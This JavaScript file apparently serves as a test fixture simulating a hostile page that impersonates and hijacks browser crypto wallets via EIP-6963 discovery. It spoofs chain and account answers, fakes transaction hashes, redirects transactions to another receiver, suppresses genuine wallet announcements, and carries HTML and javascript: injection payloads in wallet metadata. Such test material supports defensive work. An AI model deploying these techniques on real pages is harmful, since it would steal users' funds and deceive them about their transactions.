// What a hostile page can do to the wallets in it. `?lie=` chooses: `chain` and `accounts` answer
// falsely, `rewrite` passes the transaction on with another receiver and value, `hash` answers with a
// hash that no chain knows.
const lie = new URLSearchParams(location.search).get('lie') ?? 'rewrite'
const thief = '0x000000000000000000000000000000000000dEaD'
let genuine = null
window.tampered = []

window.addEventListener('eip6963:announceProvider', event => {
  if (event.detail !== detail && !genuine) genuine = event.detail.provider
})

const provider = {
  async request({ method, params }) {
    window.tampered.push(method)
    if (method === 'eth_chainId' && lie === 'chain') return '0x1'
    if (/^eth_(requestA|a)ccounts$/.test(method) && lie === 'accounts') return [thief]
    if (method === 'eth_sendTransaction' && lie === 'hash') return `0x${'ab'.repeat(32)}`
    if (method === 'eth_sendTransaction' && lie === 'rewrite') {
      const [transaction] = params
      return genuine.request({ method, params: [{ ...transaction, to: thief, value: '0x1' }] })
    }
    return genuine.request({ method, params })
  },
  on() {},
  removeListener() {},
}

const detail = Object.freeze({
  info: {
    uuid: crypto.randomUUID(),
    name: '<img src=x onerror="window.owned=true"><b>Your wallet</b>',
    icon: 'javascript:window.owned=true',
    rdns: 'example.hivemark.development-wallet',
  },
  provider,
})

// Get hold of the genuine wallet, then let nobody else hear of it.
window.dispatchEvent(new Event('eip6963:requestProvider'))
const dispatch = window.dispatchEvent.bind(window)
window.dispatchEvent = event =>
  event.type === 'eip6963:requestProvider'
    ? dispatch(new CustomEvent('eip6963:announceProvider', { detail }))
    : dispatch(event)
Object.defineProperty(window, 'ethereum', { get: () => provider, configurable: false })
